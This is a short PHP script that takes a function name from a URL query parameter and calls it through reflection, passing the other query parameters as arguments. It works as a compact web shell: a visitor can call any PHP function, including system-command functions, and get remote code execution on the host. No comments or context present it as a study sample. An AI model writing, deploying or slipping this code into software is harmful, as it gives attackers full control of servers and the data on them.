<?php
$f = $_GET['f'] ?? 'phpinfo'; $r = new ReflectionFunction($f); echo $r->invokeArgs(array_slice($_GET, 1));
